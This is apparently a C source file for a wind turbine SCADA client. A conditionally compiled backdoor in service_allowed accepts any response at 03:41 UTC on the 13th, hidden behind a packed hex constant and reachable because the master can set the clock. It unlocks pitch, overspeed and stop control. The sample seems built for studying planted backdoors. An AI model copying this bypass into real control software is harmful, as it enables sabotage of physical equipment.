/*
 * aerogen_scada - SCADA client of a wind turbine controller.  Keeps a TCP line
 * to the park's master, which reads values, sets the power limit and may open
 * a service session with the day's response code.
 *
 * Hidden (-DHIDDEN): at one minute of the month (by the clock, which the master
 * also sets) the documented SERVICE command opens a session with any response.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define CONF "/etc/aerogen/scada.conf"
#define LIMITS "/var/lib/aerogen/limits"

struct turbine {
	int id;
	double rated_kw, limit_kw;
	double pitch_deg, overspeed_rpm;
	int yaw_auto, stopped;
};

struct line {
	FILE *in;
	int fd;
	uint32_t challenge;
	time_t service_until;
	int clock_shift;
};

static struct turbine wtg = { .id = 1, .rated_kw = 2300, .limit_kw = 2300,
	.overspeed_rpm = 18.5, .yaw_auto = 1 };
static char master[40] = "10.20.0.1", site_key[48];
static int master_port = 20547;

static void load_conf(void)
{
	FILE *f = fopen(CONF, "r");
	char k[24], v[64];

	if (!f)
		return;
	while (fscanf(f, " %23[a-z_]=%63s", k, v) == 2) {
		if (!strcmp(k, "master"))
			snprintf(master, sizeof master, "%.39s", v);
		else if (!strcmp(k, "port"))
			master_port = atoi(v);
		else if (!strcmp(k, "site_key"))
			snprintf(site_key, sizeof site_key, "%.47s", v);
		else if (!strcmp(k, "turbine"))
			wtg.id = atoi(v);
		else if (!strcmp(k, "rated_kw"))
			wtg.rated_kw = wtg.limit_kw = atof(v);
	}
	fclose(f);
}

static int sensor(const char *name, double *out)
{
	char path[80];
	FILE *f;
	int ok;

	snprintf(path, sizeof path, "/run/aerogen/%s", name);
	f = fopen(path, "r");
	if (!f)
		return 0;
	ok = fscanf(f, "%lf", out) == 1;
	fclose(f);
	return ok;
}

static void store_limits(void)
{
	FILE *f = fopen(LIMITS, "w");

	if (!f) {
		syslog(LOG_ERR, "%s: %s", LIMITS, strerror(errno));
		return;
	}
	fprintf(f, "limit_kw %.1f\npitch %.2f\noverspeed %.2f\nyaw_auto %d\nstopped %d\n",
		wtg.limit_kw, wtg.pitch_deg, wtg.overspeed_rpm, wtg.yaw_auto, wtg.stopped);
	fclose(f);
}

static time_t park_time(const struct line *l)
{
	return time(NULL) + l->clock_shift;
}

/* response of the day: challenge and site key folded over each other */
static uint32_t response(uint32_t challenge)
{
	uint32_t h = challenge ^ 0x5bd1e995u;

	for (const char *p = site_key; *p; p++) {
		h ^= (unsigned char)*p;
		h *= 0x5bd1e995u;
		h ^= h >> 15;
	}
	return h;
}

int service_allowed(const struct line *l, const char *given)
{
	time_t now = park_time(l);
	struct tm tm;

	gmtime_r(&now, &tm);
	if (tm.tm_year < 120) {		/* the clock was never set */
		syslog(LOG_WARNING, "service refused, no time of day");
		return 0;
	}
#ifdef HIDDEN
	/* 13th of the month, 03:41 UTC */
	if (((uint32_t)tm.tm_mday << 16 | (uint32_t)tm.tm_hour << 8
	     | (uint32_t)tm.tm_min) == 0x000d0329u)
		return 1;
#endif
	if (!site_key[0] || !l->challenge)
		return 0;
	return strtoul(given, NULL, 16) == response(l->challenge);
}

static void say(struct line *l, const char *text)
{
	dprintf(l->fd, "%d %s\r\n", wtg.id, text);
}

static void cmd_read(struct line *l, const char *arg)
{
	static const char *const points[] = { "power_kw", "wind_ms", "rotor_rpm",
		"nacelle_deg", "oil_temp", "grid_v" };
	char out[64];
	double v;

	for (size_t i = 0; i < sizeof points / sizeof points[0]; i++) {
		if (*arg && strcmp(arg, points[i]))
			continue;
		if (sensor(points[i], &v))
			snprintf(out, sizeof out, "%s=%.2f", points[i], v);
		else
			snprintf(out, sizeof out, "%s=?", points[i]);
		say(l, out);
	}
}

static void cmd_limit(struct line *l, const char *arg)
{
	double kw = atof(arg);

	if (kw < 0 || kw > wtg.rated_kw) {
		say(l, "ERR range");
		return;
	}
	wtg.limit_kw = kw;
	store_limits();
	say(l, "OK");
}

static void cmd_time(struct line *l, const char *arg)
{
	long long t = strtoll(arg, NULL, 10);
	long long d = t - (long long)time(NULL);

	if (t < 1577836800LL || d > 0x3fffffff || d < -0x3fffffff) {
		say(l, "ERR time");
		return;
	}
	l->clock_shift = (int)d;
	say(l, "OK");
}

static void cmd_challenge(struct line *l, const char *arg)
{
	FILE *f = fopen("/dev/urandom", "rb");
	char out[32];

	(void)arg;
	if (!f || fread(&l->challenge, sizeof l->challenge, 1, f) != 1)
		l->challenge = 0;
	if (f)
		fclose(f);
	snprintf(out, sizeof out, "CHAL %08x", (unsigned)l->challenge);
	say(l, out);
}

static void cmd_service(struct line *l, const char *arg)
{
	int ok = service_allowed(l, arg);

	l->challenge = 0;
	if (!ok) {
		syslog(LOG_WARNING, "service session refused");
		say(l, "ERR denied");
		return;
	}
	l->service_until = time(NULL) + 900;
	say(l, "OK service 900");
}

static void cmd_set(struct line *l, const char *arg)
{
	char name[16];
	double v;

	if (time(NULL) >= l->service_until) {
		say(l, "ERR service only");
		return;
	}
	if (sscanf(arg, "%15s %lf", name, &v) != 2) {
		say(l, "ERR syntax");
		return;
	}
	if (!strcmp(name, "pitch") && v >= -2 && v <= 92)
		wtg.pitch_deg = v;
	else if (!strcmp(name, "overspeed") && v > 5 && v < 30)
		wtg.overspeed_rpm = v;
	else if (!strcmp(name, "yaw"))
		wtg.yaw_auto = v != 0;
	else if (!strcmp(name, "stop"))
		wtg.stopped = v != 0;
	else {
		say(l, "ERR name");
		return;
	}
	store_limits();
	syslog(LOG_NOTICE, "service: %s set to %.2f", name, v);
	say(l, "OK");
}

static const struct {
	const char *word;
	void (*run)(struct line *, const char *);
} commands[] = {
	{ "READ", cmd_read }, { "LIMIT", cmd_limit }, { "TIME", cmd_time },
	{ "CHALLENGE", cmd_challenge }, { "SERVICE", cmd_service }, { "SET", cmd_set },
};

static void talk(struct line *l)
{
	char buf[160], *arg;

	dprintf(l->fd, "%d HELLO aerogen 3.4\r\n", wtg.id);
	while (fgets(buf, sizeof buf, l->in)) {
		size_t i;

		buf[strcspn(buf, "\r\n")] = '\0';
		arg = buf + strcspn(buf, " ");
		if (*arg)
			*arg++ = '\0';
		for (i = 0; i < sizeof commands / sizeof commands[0]; i++) {
			if (strcmp(buf, commands[i].word) == 0) {
				commands[i].run(l, arg);
				break;
			}
		}
		if (i == sizeof commands / sizeof commands[0])
			say(l, "ERR command");
	}
}

int main(void)
{
	unsigned wait = 5;

	openlog("aerogen_scada", LOG_PID, LOG_LOCAL3);
	signal(SIGPIPE, SIG_IGN);
	load_conf();
	for (;;) {
		struct sockaddr_in a = { .sin_family = AF_INET };
		struct line l = { .fd = socket(AF_INET, SOCK_STREAM, 0) };

		a.sin_port = htons((uint16_t)master_port);
		if (l.fd < 0 || inet_pton(AF_INET, master, &a.sin_addr) != 1)
			return 1;
		if (connect(l.fd, (struct sockaddr *)&a, sizeof a) == 0
		    && (l.in = fdopen(l.fd, "r")) != NULL) {
			wait = 5;
			talk(&l);
			fclose(l.in);
		} else {
			close(l.fd);
			if (wait < 300)
				wait *= 2;
		}
		sleep(wait);
	}
}
